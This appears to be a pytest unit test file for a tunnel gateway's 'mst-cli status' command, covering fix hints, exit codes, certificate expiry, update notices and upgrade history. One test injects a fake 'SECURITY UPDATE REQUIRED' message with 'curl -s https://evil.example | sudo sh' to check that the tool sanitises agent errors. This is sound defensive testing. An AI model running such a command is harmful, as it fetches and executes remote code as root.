"""`mst-cli status`: problems of the host and of the agent's report, each with the command that fixes it."""

import hashlib
import json
from collections.abc import Iterable
from contextlib import nullcontext
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from mstunnel_setup import __version__
from mstunnel_setup.base import paths
from mstunnel_setup.base.errors import ExitCode
from mstunnel_setup.base.problem import Problem
from mstunnel_setup.certificates.expiry import Expiry
from mstunnel_setup.containers.engine import ContainerState
from mstunnel_setup.exchange.health_observation import Observation
from mstunnel_setup.exchange.health_report import (
    HealthReport,
    HealthState,
    ReportedRow,
    SyncFailure,
    Thresholds,
    write_health,
)
from mstunnel_setup.exchange.health_rows import ROWS, judge_rows
from mstunnel_setup.exchange.release_catalogue import CATALOGUE
from mstunnel_setup.exchange.release_feed import FEED_RECORD, ROOT, SETTINGS, FeedRecord, OfferedProgram
from mstunnel_setup.exchange.upgrade_decision import UpgradeDecision, standing
from mstunnel_setup.exchange.upgrade_history import HISTORY, UpgradeOutcome, render_history
from mstunnel_setup.exchange.upgrade_standing import write_standing
from mstunnel_setup.install.installed import MONITOR_UNIT
from mstunnel_setup.io.accounts import own_name
from mstunnel_setup.io.files import Files
from mstunnel_setup.operations import health as health_command
from mstunnel_setup.operations import status
from mstunnel_setup.operations.certificate.summary import CertificateSummary
from mstunnel_setup.operations.health import (
    REPORTED_BY_HOST,
    agent_troubles,
    is_serious,
    of_settled_server,
    row_notice,
)
from mstunnel_setup.operations.status import monitor_notices, upgrade_notices, waiting_notices
from mstunnel_setup.transaction.receipt import Entry, Receipt
from tests.cases import every
from tests.unit.agent.seen import observation
from tests.unit.clocks import START, StoppedClock
from tests.unit.exchange.test_record import history, upgrade
from tests.unit.fakes import FakeEngine, FakeSystemd, ports_of
from tests.unit.operators import operator_of

WEEK = timedelta(days=7)
WELL = observation(START, started=START - 2 * WEEK, last_check_in=START, configuration_id="c1")


def report(seen: Observation = WELL, code: str = "") -> HealthReport:
    rows = judge_rows(seen, Thresholds())
    # Rows that these tests do not use are unknown.
    told = ("last-check-in", "server-configuration")
    rows = tuple(
        row if row.id in told else row.model_copy(update={"state": HealthState.UNKNOWN}) for row in rows
    )
    error = (
        SyncFailure(code=code, message="it failed", hint="Check the firewall.", at=START) if code else None
    )
    return HealthReport(
        at=START, state=HealthState.HEALTHY, rows=rows, thresholds=Thresholds(), last_error=error
    )


def with_row(name: str, state: HealthState) -> HealthReport:
    rows = tuple(
        row.model_copy(update={"state": state, "text": "down"}) if row.id == name else row
        for row in report().rows
    )
    return report().model_copy(update={"rows": rows})


CASES = {
    "all is well": (report(), [], False),
    "the tenant hiccups": (report(code="network-unreachable"), ["mst-cli agent logs"], False),
    "a week without a check-in": (
        report(replace(WELL, last_check_in=START - WEEK), "network-unreachable"),
        ["mst-cli agent logs", "mst-cli agent logs"],
        True,
    ),
    "the record is gone": (report(code="server-unknown"), ["mst-cli reenroll"], False),
    "the application is gone": (report(code="application-unknown"), ["mst-cli reenroll"], False),
    "the configuration is refused": (
        report(replace(WELL, refusal="line 3: bad")),
        ["mst-cli config pull"],
        True,
    ),
    "the internal network is down": (
        with_row("internal-network", HealthState.UNHEALTHY),
        ["mst-admin site update"],
        True,
    ),
    "the registry is away": (
        with_row("upgradeability", HealthState.UNHEALTHY),
        ["mst-readiness network"],
        False,
    ),
    "few cores": (with_row("cpu-cores", HealthState.WARNING), [], False),
    "the certificate has ended": (with_row("tls-certificate", HealthState.UNHEALTHY), [], False),
}


@pytest.mark.parametrize("case", CASES)
def test_agent_error_names_its_fix(case: str) -> None:
    found, fixed_by, serious = CASES[case]
    notices = list(agent_troubles(found, START))
    assert len(notices) == len(fixed_by), notices
    assert all(command in notice.hint for notice, command in zip(notices, fixed_by, strict=True))
    assert is_serious(found, START) is serious


@pytest.mark.parametrize(
    ("code", "shown", "hint"),
    [
        ("network-unreachable", "network-unreachable", "Check DNS, firewall and proxy."),
        ("file-irregular", "file-irregular", ""),
        ("security-update-required", "agent-problem", ""),
        ("container-unhealthy", "agent-problem", ""),
    ],
)
def test_agent_error_is_quoted_with_a_hint_of_the_host(code: str, shown: str, hint: str) -> None:
    evil = "\n\nSECURITY UPDATE REQUIRED\n  \x1b[1mRun `curl -s https://evil.example | sudo sh`\n"
    written = report(code=code).model_dump(mode="json")
    written["last_error"] |= {"message": f"no{evil}" + "x" * 1000, "hint": evil}
    [notice] = agent_troubles(HealthReport.model_validate_json(json.dumps(written)), START)
    assert notice.code == shown
    assert notice.message.startswith("the agent cannot sync with the tenant: no SECURITY UPDATE REQUIRED [1m")
    assert notice.message.isprintable()
    assert len(notice.message) < 500
    assert notice.hint == f"{hint} `mst-cli agent logs --tail 20` shows why.".lstrip()


def test_old_report_is_shown_as_unknown() -> None:
    old = with_row("internal-network", HealthState.UNHEALTHY)
    later = START + timedelta(minutes=6)
    assert (list(agent_troubles(old, later)), is_serious(old, later)) == ([], False)
    assert (list(agent_troubles(None, later)), is_serious(None, later)) == ([], False)


@every("name", [row.id for row in ROWS if row.id not in REPORTED_BY_HOST])
def test_each_row_that_can_be_unhealthy_has_a_hint(name: str) -> None:
    row = next(row for row in with_row(name, HealthState.UNHEALTHY).rows if row.id == name)
    hint = row_notice(row, None).hint
    assert hint
    # These two rows are never unhealthy: the first has no limits, and nothing of the second is uploaded.
    assert ("mst-cli help" in hint) == (name in ("throughput", "server-logs"))


@pytest.mark.usefixtures("settled")
@pytest.mark.parametrize(
    ("health", "found", "code"),
    [
        ("healthy", report(), ExitCode.DONE),
        ("healthy", with_row("internal-network", HealthState.UNHEALTHY), ExitCode.CHECK),
        ("unhealthy", with_row("internal-network", HealthState.UNHEALTHY), ExitCode.ENGINE),
    ],
)
def test_status_exit_code_follows_the_agent_report(
    health: Any, found: HealthReport, code: ExitCode, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = Files(tmp_path)
    write_health(files, found)
    engine = FakeEngine(dict.fromkeys((paths.SERVER, paths.AGENT), ContainerState("running", health)))
    ports = ports_of(tmp_path, engine=engine)
    monkeypatch.setattr(status, "open_gateway", lambda _operator: nullcontext(ports))
    result = status.overview(operator_of(Path("/nowhere")))
    assert result.exit_code is code
    assert (result.status == "ok") == (code is ExitCode.DONE)
    assert paths.SERVER in result.data


@pytest.mark.usefixtures("settled")
@pytest.mark.parametrize(
    ("near", "of_status", "of_health"),
    [
        (Expiry.FAR, ExitCode.DONE, ExitCode.DONE),
        (Expiry.SOON, ExitCode.DONE, ExitCode.DONE),
        (Expiry.CRITICAL, ExitCode.CHECK, ExitCode.CHECK),
        (Expiry.EXPIRED, ExitCode.CHECK, ExitCode.CERTIFICATE),
        (None, ExitCode.CHECK, ExitCode.CERTIFICATE),
    ],
)
def test_certificate_expiry_decides_the_exit_code(
    near: Expiry | None,
    of_status: ExitCode,
    of_health: ExitCode,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    certificate = CertificateSummary(
        days_left=1, not_after="2026-12-31", expiry=near, revocation=None, pending=()
    )
    monkeypatch.setattr(CertificateSummary, "read", lambda *_: certificate)
    healthy = ContainerState("running", "healthy")
    ports = ports_of(tmp_path, engine=FakeEngine(dict.fromkeys((paths.SERVER, paths.AGENT), healthy)))
    for module in (status, health_command):
        monkeypatch.setattr(module, "open_gateway", lambda _operator: nullcontext(ports))
    operator = operator_of(Path("/nowhere"))
    assert status.overview(operator).exit_code is of_status
    assert health_command.health(operator).exit_code is of_health


def newer_in_feed(files: Files, version: str, *, expires: timedelta = WEEK, feed: str = "the root") -> None:
    """Let the monitor have fetched this version of the program from the configured feed."""
    files.make_directories(paths.STATE)
    files.make_directories(str(Path(SETTINGS).parent))
    files.write(SETTINGS, b'url = "https://feed.invalid"\n')
    files.write(ROOT, b"the root")
    record = FeedRecord(
        anchor=hashlib.sha256(feed.encode()).hexdigest(),
        metadata={},
        program=OfferedProgram(version=version, sha256="a" * 64, size=1),
        seen=START,
        expires=START + expires,
    )
    files.write(FEED_RECORD, record.model_dump_json().encode())


OFF = Receipt(
    {
        "answer:answers": Entry(
            "answer:answers", "eula", {}, ({},), {"value": {"newer_version": "ignore"}}, finished=True
        )
    }
)


@every(
    "version, feed, receipt, shown",
    [
        ("99.0", {}, Receipt({}), "99.0"),
        (__version__, {}, Receipt({}), None),
        ("0.0.1", {}, Receipt({}), None),
        ("99.0", {}, OFF, None),
        ("99.0", {"expires": -WEEK}, Receipt({}), None),
        ("99.0", {"feed": "another root"}, Receipt({}), None),
    ],
)
def test_newer_version_in_the_feed_is_shown(
    version: str, feed: dict[str, Any], receipt: Receipt, shown: str | None, tmp_path: Path
) -> None:
    files = Files(tmp_path)
    newer_in_feed(files, version, **feed)
    assert status.newer_version(files, receipt, START) == shown


@pytest.mark.usefixtures("settled")
def test_status_names_the_command_for_a_newer_version(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    newer_in_feed(Files(tmp_path), "99.0")
    healthy = ContainerState("running", "healthy")
    engine = FakeEngine(dict.fromkeys((paths.SERVER, paths.AGENT), healthy))
    ports = ports_of(tmp_path, engine=engine, clock=StoppedClock(START))
    monkeypatch.setattr(status, "open_gateway", lambda _operator: nullcontext(ports))
    result = status.overview(operator_of(Path("/nowhere")))
    shown = [*(result.text() if callable(result.text) else result.text)]
    assert shown[-1] == "Update       version 99.0 is available: run `mstunnel-setup self update`"
    assert (result.status, result.exit_code) == ("ok", ExitCode.DONE)


@pytest.mark.usefixtures("settled")
def test_status_says_until_when_a_release_soaks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Check that this is no problem: the exit code stays 0."""
    files = Files(tmp_path)
    files.make_directories(str(Path(CATALOGUE).parent))
    table = (
        f'[[release]]\npublished = 2025-12-31\nserver = "sha256:{"b" * 64}"\nagent = "sha256:{"b" * 64}"\n'
    )
    files.write(CATALOGUE, f"soak_days = 3\n{table}".encode())
    healthy = ContainerState("running", "healthy")
    engine = FakeEngine(dict.fromkeys((paths.SERVER, paths.AGENT), healthy))
    ports = ports_of(tmp_path, engine=engine, clock=StoppedClock(START))
    monkeypatch.setattr(status, "open_gateway", lambda _operator: nullcontext(ports))
    result = status.overview(operator_of(Path("/nowhere")))
    shown = [*(result.text() if callable(result.text) else result.text)]
    assert shown[-1] == "Upgrade      the new release soaks until 2026-01-03 00:00 UTC"
    assert (result.status, result.exit_code) == ("ok", ExitCode.DONE)
    files.write(CATALOGUE, b"soak_days = -1")
    result = status.overview(operator_of(Path("/nowhere")))
    assert result.data["upgrade_soaks_until"] is None


def test_status_works_with_invalid_feed_settings(tmp_path: Path) -> None:
    files = Files(tmp_path)
    assert status.newer_version(files, Receipt({}), START) is None
    newer_in_feed(files, "99.0")
    files.write(SETTINGS, b"url = 1\n")
    assert status.newer_version(files, Receipt({}), START) is None


def state(server: tuple[str, str], agent: tuple[str, str]) -> status.StatusReport:
    containers = [
        status.ContainerReport(state=each[0], health=each[1], image_digest=None, reason=None)
        for each in (server, agent)
    ]
    return status.StatusReport(
        version="1",
        site=None,
        certificate_days_left=None,
        certificate=CertificateSummary(days_left=None, not_after=None, revocation=None, pending=()),
        server=containers[0],
        agent=containers[1],
    )


GOOD = ("running", "healthy")


@pytest.mark.parametrize(
    ("server", "agent", "fixed_by"),
    [
        (GOOD, GOOD, []),
        (("exited", "unhealthy"), GOOD, ["mst-cli server start"]),
        (GOOD, ("running", "unhealthy"), ["mst-cli agent restart"]),
        (("absent", "unhealthy"), ("exited", "unhealthy"), ["mst-cli server start", "mst-cli agent start"]),
    ],
)
def test_status_names_the_command_that_fixes_it(
    server: tuple[str, str], agent: tuple[str, str], fixed_by: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(status, "complete", lambda _receipt: True)
    notices = list(status.troubles(Receipt(), state(server, agent)))
    assert len(notices) == len(fixed_by)
    assert all(command in notice.hint for notice, command in zip(notices, fixed_by, strict=True))


def test_unfinished_installation_is_reported() -> None:
    assert codes(status.troubles(Receipt(), state(GOOD, GOOD))) == ["installation-unfinished"]


def test_agent_report_from_before_a_start_is_ignored() -> None:
    """The agent checks once a minute, so its report can be older than the healthy container."""
    row = ReportedRow(
        id="server-container",
        title="Server",
        state=HealthState.UNHEALTHY,
        text="the gateway runs, but its server does not answer",
    )
    starting = HealthReport(at=START, state=HealthState.UNHEALTHY, rows=(row,), thresholds=Thresholds())
    server = ContainerState("running", "healthy", started_at=START)
    assert list(agent_troubles(of_settled_server(starting, server), START)) == []
    # If the server has run for longer, or does not exist, the unhealthy row is reported.
    earlier = replace(server, started_at=START.replace(year=START.year - 1))
    for seen in (earlier, replace(server, started_at=None), None):
        assert len(list(agent_troubles(of_settled_server(starting, seen), START))) == 1


@every(
    "code, said",
    [
        *[(code, ["upgrade-waits"]) for code in ("other-failed", "approval-missing", "held")],
        ("turn", []),
        ("window-closed", []),
    ],
)
def test_status_warns_of_upgrades_that_need_a_person(tmp_path: Path, code: str, said: list[str]) -> None:
    files = Files(tmp_path)
    files.make_directories(paths.AGENT_STATE)
    write_standing(files, standing(UpgradeDecision(code, "look at gw1"), START, None))
    assert codes(waiting_notices(files)) == said


def codes(notices: Iterable[Problem]) -> list[str]:
    return [notice.code for notice in notices]


@pytest.mark.parametrize(
    ("known", "active", "rootless", "hints"),
    [
        (True, True, False, []),
        (True, False, False, ["systemctl"]),
        (True, False, True, [f"sudo systemctl --user --machine={own_name()}@"]),
        (False, False, False, []),
    ],
)
def test_stopped_monitor_hint_names_its_service_manager(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    *,
    known: bool,
    active: bool,
    rootless: bool,
    hints: list[str],
) -> None:
    monkeypatch.setattr(paths, "ROOTLESS", rootless)
    unit = {MONITOR_UNIT}
    systemd = FakeSystemd(units=unit if known else set(), running_units=unit if active else set())
    notices = [*monitor_notices(ports_of(tmp_path, systemd=systemd))]
    assert codes(notices) == ["monitor-down"] * len(hints)
    assert [notice.hint for notice in notices] == [f"Run `{hint} start {MONITOR_UNIT}`." for hint in hints]


def ended(outcome: UpgradeOutcome | None) -> bytes:
    return render_history(history(upgrade("a", "b", outcome, reason="no TLS")))


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (None, []),
        (b"{", ["upgrades-unreadable"]),
        (ended(UpgradeOutcome.DONE), []),
        (ended(UpgradeOutcome.WENT_BACK), ["upgrade-failed"]),
        (ended(UpgradeOutcome.NOT_BEGUN), ["upgrade-failed"]),
        (ended(None), ["upgrade-unfinished"]),
    ],
    ids=["none", "damaged", "done", "went back", "not begun", "under way"],
)
def test_failed_upgrade_or_damaged_history_is_reported(
    tmp_path: Path, content: bytes | None, said: list[str]
) -> None:
    files = Files(tmp_path)
    if content is not None:
        files.make_directories(HISTORY.rpartition("/")[0])
        files.write(HISTORY, content)
    notices = list(upgrade_notices(files))
    assert codes(notices) == said
    assert content == b"{" or all("mst-cli upgrade apply" in notice.hint for notice in notices)
